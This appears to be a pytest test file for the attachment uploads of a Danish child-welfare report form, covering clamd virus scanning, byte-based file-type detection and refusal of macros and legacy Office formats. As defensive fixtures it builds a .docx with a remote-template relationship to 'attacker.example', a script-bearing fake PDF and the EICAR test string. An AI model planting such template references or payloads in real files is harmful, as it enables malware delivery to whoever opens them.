"""Uploads on the report form (issue 12, finding 4): every file is virus-scanned by a real clamd
before anything is stored (fail closed when clamd cannot answer), its type is detected from its
bytes and that type is stored and sent back, legacy Office files and macros are refused, and a
.txt file must be UTF-8 text."""

import datetime
import html
import io
import os
import re
import socket
import subprocess
import sys
import threading
import uuid
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from beredskab.core import crypto, scanning
from beredskab.intake.forms import ReportForm
from beredskab.intake.models import Attachment, Report
from beredskab.intake.services import report_submit

from .conftest import EICAR, EICAR_SIGNATURE
from .test_services import _input
from .test_views import _post_data

TUESDAY_10 = datetime.datetime(2026, 11, 24, 10, 0, tzinfo=ZoneInfo("Europe/Copenhagen"))
ROOT = Path(__file__).resolve().parents[3]
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024


# --- files -----------------------------------------------------------------------------------


def _image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(buffer, kind)
    return buffer.getvalue()


_OOXML = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def _ooxml(kind: str = "docx", *, macros: bool = False, extra: dict | None = None) -> bytes:
    """A minimal Office Open XML package: content types, the package relationships, the main part."""
    part, main = _OOXML[kind]
    content_type = f"application/vnd.openxmlformats-officedocument.{main}"
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'officeDocument" Target="{part}"/></Relationships>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr(part, "<document/>")
        if macros:
            archive.writestr(part.split("/")[0] + "/vbaProject.bin", OLE2)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _odf(mimetype: str, *, macros: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr("content.xml", "<content/>")
        if macros:
            archive.writestr("Basic/Standard/Module1.xml", "<module/>")
    return buffer.getvalue()


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")  # looks like a .docx to a first glance only
    return buffer.getvalue()


def _form(files, **overrides):
    data = {
        "submission_token": str(uuid.uuid4()),
        "reporter_kind": "private",
        "reporter_anonymous": "on",
        "subject_name": "Barn Bo",
        "subject_knows": "unknown",
        "family_knows": "no",
        "is_acute": "no",
        "narrative": "Bo fortæller, at han ikke må gå til fodbold.",
        **overrides,
    }
    return ReportForm(data, {"attachments": files}, sign_choices=[])


def _field_error(body: str, field: str) -> str:
    """The text of the error shown next to the field (between its label and its input)."""
    match = re.search(rf'id="id_{field}_error">(.*?)</span>\s*<input[^>]*id="id_{field}"', body, re.S)
    assert match, f"no error next to {field}"
    return html.unescape(re.sub(r"<[^>]+>", "", match.group(1)))


def _files_under(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()] if folder.exists() else []


# --- what a file is: detected from its bytes -----------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("notat.pdf", PDF, "application/pdf"),
        ("billede.png", _image("PNG"), "image/png"),
        ("foto.jpg", _image("JPEG"), "image/jpeg"),
        ("foto.JPEG", _image("JPEG"), "image/jpeg"),
        ("tegning.gif", _image("GIF"), "image/gif"),
        ("iphone.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64, "image/heic"),
        ("brev.docx", _ooxml("docx"), scanning.DOCX),
        ("regneark.xlsx", _ooxml("xlsx"), scanning.XLSX),
        ("slides.pptx", _ooxml("pptx"), scanning.PPTX),
        ("brev.odt", _odf(scanning.ODT), scanning.ODT),
        ("ark.ods", _odf(scanning.ODS), scanning.ODS),
        ("notat.txt", "Kære sagsbehandler\nBo var ked af det.\n".encode(), "text/plain; charset=utf-8"),
        ("bmw.txt", b"BMW-bilen holdt udenfor hver dag.\n", "text/plain; charset=utf-8"),  # "BM" is not a bitmap
    ],
)
def test_accepted_files_are_detected_from_their_bytes(no_clamd, name, content, content_type):
    upload = SimpleUploadedFile(name, content, content_type="text/html")
    assert scanning.detect(upload).content_type == content_type
    form = _form([upload])
    assert form.is_valid(), form.errors


@pytest.mark.parametrize(
    ("name", "content", "code", "message"),
    [
        ("brev.doc", OLE2, "legacy_office", "ældre Office-formater"),
        ("regneark.xls", OLE2, "legacy_office", "Gem den som PDF eller som .docx/.xlsx"),
        ("slides.ppt", OLE2, "legacy_office", "ældre Office-formater"),
        ("omdøbt.docx", OLE2, "legacy_office", "ældre Office-formater"),  # a .doc renamed .docx
        ("brev.docm", _ooxml("docx", macros=True), "macros", "makroer"),
        ("brev.docx", _ooxml("docx", macros=True), "macros", "makroer"),
        ("regneark.xlsx", _ooxml("xlsx", macros=True), "macros", "makroer"),
        ("brev.odt", _odf(scanning.ODT, macros=True), "macros", "makroer"),
        ("brev.docx", _plain_zip(), "content", "DOCX-fil"),  # a zip is not a Word document
        ("regneark.xlsx", b"PK\x03\x04 not really a zip", "content", "XLSX-fil"),
        ("brev.docx", _ooxml("xlsx"), "content", "DOCX-fil"),  # a spreadsheet named .docx
        ("binær.txt", bytes(range(256)), "not_text", "ikke almindelig tekst"),
        ("nul.txt", b"tekst\x00med NUL", "not_text", "ikke almindelig tekst"),
        ("latin1.txt", "Kære Bo".encode("latin-1"), "not_text", "UTF-8"),
        ("program.txt", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "not_text", "ikke almindelig tekst"),
        ("side.pdf", b"<html><script>alert(1)</script></html>", "content", "PDF-fil"),
        ("foto.jpg", _image("PNG"), "content", "JPG-fil"),
        ("program.exe", b"MZ\x90\x00", "extension", "filtype"),
    ],
)
def test_refused_files_get_a_danish_message_next_to_the_field(no_clamd, name, content, code, message):
    form = _form([SimpleUploadedFile(name, content, content_type="application/pdf")])
    assert not form.is_valid()
    error = form.errors.as_data()["attachments"][0]
    assert error.code == code
    assert message in str(error.message)
    assert list(form.errors) == ["attachments"]  # the rest of what was typed is fine and kept


# --- the public form, end to end -----------------------------------------------------------


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def _at_tuesday_morning():
    with time_machine.travel(TUESDAY_10, tick=False):
        yield


pytestmark_db = pytest.mark.usefixtures("ishoj_plan", "org", "_at_tuesday_morning")


def _post(client, upload, **overrides):
    data = _post_data(subject_address="Testvej 1", **overrides)
    return client.post("/underretning/ny/", {**data, "attachments": upload})


def _assert_refused_and_nothing_stored(response, media_root) -> str:
    body = response.content.decode()
    assert response.status_code == 400
    assert Report.objects.count() == 0 and Attachment.objects.count() == 0
    assert _files_under(Path(media_root)) == []
    assert 'value="Testvej 1"' in body and "Hun må ikke deltage i lejrskolen." in body  # what was typed is kept
    assert "Vedhæft dine bilag igen" in body
    return _field_error(body, "attachments")


@pytestmark_db
def test_the_eicar_test_virus_is_refused_on_the_public_form_and_nothing_is_stored(client, clamd, media_root):
    response = _post(client, SimpleUploadedFile("notat.txt", EICAR, content_type="text/plain"))
    error = _assert_refused_and_nothing_stored(response, media_root)
    assert "Filen notat.txt indeholder virus eller anden skadelig kode" in error
    assert EICAR_SIGNATURE not in response.content.decode()  # the scanner's verdict is not shown to the public


@pytestmark_db
def test_a_virus_inside_an_office_document_is_refused(client, clamd, media_root):
    document = _ooxml("docx", extra={"word/media/image1.bin": EICAR})
    assert scanning.detect(SimpleUploadedFile("brev.docx", document)).content_type == scanning.DOCX
    error = _assert_refused_and_nothing_stored(_post(client, SimpleUploadedFile("brev.docx", document)), media_root)
    assert "indeholder virus" in error


@pytestmark_db
def test_one_infected_file_among_clean_ones_refuses_them_all(client, clamd, media_root):
    uploads = [SimpleUploadedFile("notat.pdf", PDF), SimpleUploadedFile("virus.txt", EICAR)]
    error = _assert_refused_and_nothing_stored(_post(client, uploads), media_root)
    assert "virus.txt" in error


@pytestmark_db
def test_a_clean_pdf_is_scanned_and_stored_as_pdf_whatever_the_browser_said(client, clamd, media_root, make_user):
    upload = SimpleUploadedFile("notat.pdf", PDF, content_type="text/html")
    response = _post(client, upload)
    assert response.status_code == 302, _field_error(response.content.decode(), "attachments")
    attachment = Attachment.objects.get()
    assert attachment.content_type == "application/pdf"
    assert len(_files_under(Path(media_root))) == 1

    client.force_login(make_user("child_caseworker", "straxen"))
    download = client.get(f"/underretning/modtagne/{attachment.report.reference}/bilag/{attachment.pk}/")
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == PDF


@pytestmark_db
def test_each_file_is_scanned_once_on_its_way_from_the_form_to_the_store(client, clamd, media_root, monkeypatch):
    sent = []
    real = scanning.clamd_instream
    monkeypatch.setattr(scanning, "clamd_instream", lambda file: sent.append(file.name) or real(file))
    uploads = [SimpleUploadedFile("a.pdf", PDF), SimpleUploadedFile("b.txt", b"Noter\n")]
    assert _post(client, uploads).status_code == 302
    assert sorted(sent) == ["a.pdf", "b.txt"] and Attachment.objects.count() == 2


@pytestmark_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("brev.doc", OLE2, "ældre Office-formater (.doc, .xls, .ppt)"),
        ("regneark.xls", OLE2, "Gem den som PDF eller som .docx/.xlsx"),
        ("binær.txt", b"\x00\x01\x02\xff\xfe tekst", "ikke almindelig tekst (UTF-8)"),
    ],
)
def test_legacy_office_and_binary_text_are_refused_on_the_public_form(
    client, no_clamd, media_root, name, content, message
):
    response = _post(client, SimpleUploadedFile(name, content, content_type="text/plain"))
    assert message in _assert_refused_and_nothing_stored(response, media_root)


@pytestmark_db
def test_when_clamd_cannot_be_reached_the_upload_is_refused_fail_closed(client, settings, media_root, tmp_path):
    settings.CLAMD_SOCKET = str(tmp_path / "no-clamd-here.sock")
    response = _post(client, SimpleUploadedFile("notat.pdf", PDF, content_type="application/pdf"))
    error = _assert_refused_and_nothing_stored(response, media_root)
    assert "Vi kan ikke kontrollere filer for virus lige nu" in error
    assert "Send underretningen uden bilag" in error
    # ... and the same report without the file goes through.
    response = client.post("/underretning/ny/", _post_data(subject_address="Testvej 1"))
    assert response.status_code == 302 and Report.objects.count() == 1


@pytestmark_db
def test_without_a_configured_scanner_uploads_are_accepted_as_before(client, no_clamd, media_root):
    response = _post(client, SimpleUploadedFile("notat.pdf", PDF, content_type="application/pdf"))
    assert response.status_code == 302
    assert Attachment.objects.get().content_type == "application/pdf"


@pytestmark_db
def test_the_service_scans_files_that_did_not_come_through_the_form(clamd, media_root):
    with pytest.raises(scanning.FileInfected):
        report_submit(actor=None, token=uuid.uuid4(), data=_input(), files=[SimpleUploadedFile("a.txt", EICAR)])
    assert Report.objects.count() == 0 and Attachment.objects.count() == 0


@pytestmark_db
def test_the_service_stores_the_detected_type_not_the_declared_one(no_clamd, media_root):
    upload = SimpleUploadedFile("notat.txt", "Kære Bo\n".encode(), content_type="text/html")
    report, _ = report_submit(actor=None, token=uuid.uuid4(), data=_input(), files=[upload])
    assert report.attachments.get().content_type == "text/plain; charset=utf-8"


@pytestmark_db
def test_an_old_attachment_with_the_browsers_type_is_sent_as_plain_bytes(client, no_clamd, media_root, make_user):
    report, _ = report_submit(
        actor=None, token=uuid.uuid4(), data=_input(), files=[SimpleUploadedFile("side.pdf", PDF)]
    )
    attachment = report.attachments.get()
    Attachment.objects.filter(pk=attachment.pk).update(content_type="text/html")  # as stored before detection
    client.force_login(make_user("child_caseworker", "straxen"))
    download = client.get(f"/underretning/modtagne/{report.reference}/bilag/{attachment.pk}/")
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"].startswith("attachment;")


# --- the scanner itself ----------------------------------------------------------------------


def test_clamd_answers_ok_for_a_clean_file_and_names_the_signature_for_eicar(clamd):
    assert scanning.clamd_instream(io.BytesIO(PDF)) == "stream: OK"
    with pytest.raises(scanning.FileInfected) as refused:
        scanning.scan_file(SimpleUploadedFile("a.txt", EICAR))
    assert refused.value.signature == f"{EICAR_SIGNATURE}.UNOFFICIAL"


def test_a_file_larger_than_one_chunk_is_streamed_whole(clamd):
    upload = SimpleUploadedFile("stor.pdf", PDF + b"0" * (3 * 1024 * 1024))
    scanning.scan_file(upload)  # clean, no exception
    assert upload.tell() == 0


def test_clamd_over_tcp_that_refuses_the_connection_fails_closed(settings):
    with socket.socket() as probe:  # a free port on this machine, closed again: nobody listens
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings.CLAMD_SOCKET, settings.CLAMD_HOST, settings.CLAMD_PORT = "", "127.0.0.1", port
    with pytest.raises(scanning.ScanUnavailable):
        scanning.scan_file(SimpleUploadedFile("a.pdf", PDF))


def test_a_clamd_that_never_answers_times_out_and_fails_closed(settings, tmp_path):
    path = tmp_path / "silent.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(1)
    stop = threading.Event()

    def swallow():  # accepts and reads, never answers
        connection, _ = server.accept()
        with connection:
            connection.settimeout(0.2)
            while not stop.is_set():
                try:
                    if not connection.recv(65536):
                        return
                except TimeoutError:
                    continue

    thread = threading.Thread(target=swallow, daemon=True)
    thread.start()
    settings.CLAMD_SOCKET, settings.CLAMD_TIMEOUT = str(path), 1
    try:
        with pytest.raises(scanning.ScanUnavailable):
            scanning.scan_file(SimpleUploadedFile("a.pdf", PDF))
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()


def test_an_unexpected_answer_from_clamd_fails_closed(settings, monkeypatch):
    settings.CLAMD_SOCKET = "/unused"
    monkeypatch.setattr(scanning, "clamd_instream", lambda file: "INSTREAM size limit exceeded. ERROR")
    with pytest.raises(scanning.ScanUnavailable):
        scanning.scan_file(SimpleUploadedFile("a.pdf", PDF))


# --- production refuses to run without a scan, unless told so in so many words --------------


def _production_check(**changes) -> subprocess.CompletedProcess:
    environment = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("CLAMD_", "OIDC_")) and k != "DJANGO_ALLOW_ASYNC_UNSAFE"
    }
    environment.update(
        DJANGO_SETTINGS_MODULE="config.settings.production",
        SECRET_KEY="k" * 20 + "-not-a-real-secret-but-long-enough-for-the-check-" + "q" * 20,
        FIELD_ENCRYPTION_KEYS=crypto.generate_key(),
        BLIND_INDEX_KEY="b" * 48,
        AUDIT_CHAIN_KEYS="a" * 48,
        ALLOWED_HOSTS="beredskab.kommune.example",
        DEMO_RELAX_2FA="false",
        DEBUG="false",
        DATA_DIR=os.environ.get("DATA_DIR", str(ROOT / "var")),
        **changes,
    )
    return subprocess.run(
        [sys.executable, "manage.py", "check"], cwd=ROOT, env=environment, capture_output=True, text=True, timeout=180
    )


@pytest.mark.parametrize(
    ("changes", "starts", "message"),
    [
        ({}, False, "Set CLAMD_SOCKET"),
        ({"CLAMD_DISABLED": "true"}, True, ""),
        ({"CLAMD_SOCKET": "/run/clamav/clamd.ctl"}, True, ""),
        ({"CLAMD_HOST": "clamav.internal", "CLAMD_PORT": "3310"}, True, ""),
        ({"CLAMD_SOCKET": "/run/clamav/clamd.ctl", "CLAMD_DISABLED": "true"}, False, "contradicts"),
    ],
)
def test_production_refuses_to_start_without_a_virus_scan_unless_acknowledged(changes, starts, message):
    result = _production_check(**changes)
    assert (result.returncode == 0) is starts, result.stderr[-2000:]
    assert message in result.stderr


# --- helper-13, attack on issue 12 ------------------------------------------------------------


def _docx_with_corrupt_deflate() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types>" + "x" * 2000 + "</Types>")
        archive.writestr("_rels/.rels", "<r/>")
        archive.writestr("word/document.xml", "<d/>")
    data = bytearray(buffer.getvalue())
    start = 30 + len("[Content_Types].xml")
    data[start] = data[start + 1] = 0xFF  # an invalid deflate block: zlib.error when read
    return bytes(data)


@pytestmark_db
def test_a_damaged_office_file_is_refused_next_to_the_field_and_the_report_is_kept(client, no_clamd, media_root):
    response = _post(client, SimpleUploadedFile("notat.docx", _docx_with_corrupt_deflate()))
    assert "DOCX-fil" in _assert_refused_and_nothing_stored(response, media_root)


_REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://attacker.example/skabelon.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "extra",
    [
        {"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE_RELS},  # loads a macro template when opened
        {"word/embeddings/oleObject1.bin": OLE2},  # an embedded OLE2 object
        {"word/activeX/activeX1.xml": "<ax/>"},  # an ActiveX control
    ],
)
def test_office_documents_that_load_or_embed_active_content_are_refused_as_macros(no_clamd, extra):
    form = _form([SimpleUploadedFile("notat.docx", _ooxml("docx", extra=extra))])
    assert not form.is_valid()
    assert form.errors.as_data()["attachments"][0].code == "macros"


def test_an_embedded_picture_or_an_ordinary_link_is_no_active_content(no_clamd):
    link = _REMOTE_TEMPLATE_RELS.replace("attachedTemplate", "hyperlink")
    document = _ooxml("docx", extra={"word/_rels/document.xml.rels": link, "word/media/image1.png": _image("PNG")})
    assert _form([SimpleUploadedFile("notat.docx", document)]).is_valid()
